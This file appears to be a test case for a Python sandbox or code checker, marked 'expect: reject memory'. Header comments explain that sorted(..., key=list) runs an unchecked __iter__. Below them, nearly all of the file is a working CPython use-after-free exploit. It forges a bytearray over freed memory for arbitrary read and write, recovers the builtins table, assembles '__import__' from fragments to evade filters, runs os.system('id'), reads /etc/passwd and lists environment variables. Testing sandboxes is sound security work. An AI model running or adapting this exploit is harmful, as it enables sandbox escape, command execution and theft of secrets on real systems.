# expect: reject memory
# line: 21
# why: round 77: sorted([bag], key=list) inside __eq__ ran the program's __iter__ unjudged, emptying the deque deque.index compared: raw memory, then id (verified under 3.11.2)
# mechanism: comparison purity: sorted(..., key=list) is judged only as calling a pure builtin, but list() iterates each item and runs the program's __iter__ (not judged without iter() or a library base); that __iter__ empties the deque deque.index is comparing: freed item reclaimed as a forged bytearray.
import collections
import struct

keep = []
got = []
dq = collections.deque()
state = {"armed": False, "payload": b""}
N = 25


def ARM():
    state["armed"] = True


def boom():
    if state["armed"]:
        state["armed"] = False
        dq.clear()
        keep.append(bytearray(state["payload"]))


class Hand(LookupError):
    def __init__(self, v):
        self.caught = v


class Q:
    def grab(self):
        got.append(self)

    def __eq__(self, other):
        raise Hand(self)

    def __hash__(self):
        return 1



class Bag:
    def __iter__(self):
        boom()
        return iter([1])


BAG = Bag()


class P:
    def __eq__(self, other):
        return isinstance(other, P) and bool(sorted([BAG], key=list))

    def __hash__(self):
        return 1


def w8(v):
    return v.to_bytes(8, "little")


pad = [tuple([i] * N) for i in range(200)]
dq.extend([tuple([P(), 0] + [0] * (N - 2))])
pad2 = [tuple([i] * N) for i in range(200)]
fake = id(dq[0]) + 48
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(Q), 0, 0]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
ARM()
mem = None
try:
    dq.index(tuple([P(), P()] + [0] * (N - 2)))
except Hand as e:
    e.caught.grab()
except (RuntimeError, ValueError) as e:
    print(type(e).__name__, e)
print("reclaimed:", len(keep))
B = keep[0]
mem = got[0]
struct.pack_into("<7Q", B, 64, 1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
a = id(w8) + 24
target = sum([mem[a + i] << (8 * i) for i in range(8)])
cell = [None]
count = sum([mem[target + i] << (8 * i) for i in range(8)])
mem[target:target + 8] = w8(count + 1)
b = id(cell) + 24
slot = sum([mem[b + i] << (8 * i) for i in range(8)])
mem[slot:slot + 8] = w8(target)
table = cell[0]
print(type(table).__name__, len(table))
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:120])
print("environ:", sorted(osm.environ)[:8], len(osm.environ))
